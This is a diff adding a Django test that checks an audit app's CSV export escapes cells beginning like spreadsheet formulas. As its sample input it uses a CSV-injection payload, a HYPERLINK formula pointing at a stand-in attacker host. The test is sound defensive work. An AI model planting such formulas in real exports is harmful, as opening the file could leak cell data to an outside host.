@@ -101,3 +101,14 @@ def test_exports_are_not_found_for_everyone_else(client):
     client.force_login(UserFactory(is_staff=True))
     assert client.get(reverse("audit:export_jsonl")).status_code == 404
     assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()
+
+
+def test_csv_cells_never_start_like_a_formula(client, auditor):
+    """An auditor's refused timeline records the object it was asked for as typed; opening the CSV in a
+    spreadsheet must not run it."""
+    client.force_login(auditor)
+    hostile = '=HYPERLINK("https:evil.example"&A1,"x")'
+    assert client.get(reverse("audit:object_timeline", args=["x.y", hostile])).status_code == 404
+    assert AuditEvent.objects.filter(target_id=hostile).exists()
+    content = b"".join(client.get(reverse("audit:export")).streaming_content).decode()
+    assert "'=HYPERLINK(" in content and ",=HYPERLINK(" not in content
